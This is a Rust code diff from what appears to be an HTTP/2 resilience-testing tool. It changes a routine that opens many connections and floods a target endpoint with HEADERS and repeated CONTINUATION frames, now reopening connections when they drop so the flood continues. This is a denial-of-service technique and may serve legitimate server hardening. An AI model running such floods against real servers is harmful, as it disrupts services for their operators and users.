@@ -1,4 +1,4 @@
-use crate::crowd::{PATIENCE, crowd, flood};
+use crate::crowd::{PATIENCE, crowd, flood, renew};
 use crate::frames;
 use crate::round::{Kind, Round};
 
@@ -14,15 +14,17 @@ pub(super) fn run(round: &mut Round) -> Result<(), String> {
     let mut sent = 0;
     round.attack_endpoint(&mut endpoint, |until| {
         let floods = crowd(CONNECTIONS, |index| {
-            let mut connection = frames::open(requests.address, &[], PATIENCE)?;
-            connection.send(&frames::headers(1, &block, 0))?;
-            let more = match index % 2 {
-                0 => frames::continuation(1, &field, 0),
-                _ => frames::continuation(1, &[], 0).repeat(1_000),
-            };
-            flood(connection, true, BYTES_MAX, until, || more.clone())
+            renew(until, || {
+                let mut connection = frames::open(requests.address, &[], PATIENCE)?;
+                connection.send(&frames::headers(1, &block, 0))?;
+                let more = match index % 2 {
+                    0 => frames::continuation(1, &field, 0),
+                    _ => frames::continuation(1, &[], 0).repeat(1_000),
+                };
+                flood(connection, true, BYTES_MAX, until, || more.clone())
+            })
         });
-        sent = floods.into_iter().flatten().sum();
+        sent = floods.into_iter().sum();
         Ok(())
     })?;
     round.note(format!("{} KB of one head were sent", sent >> 10));
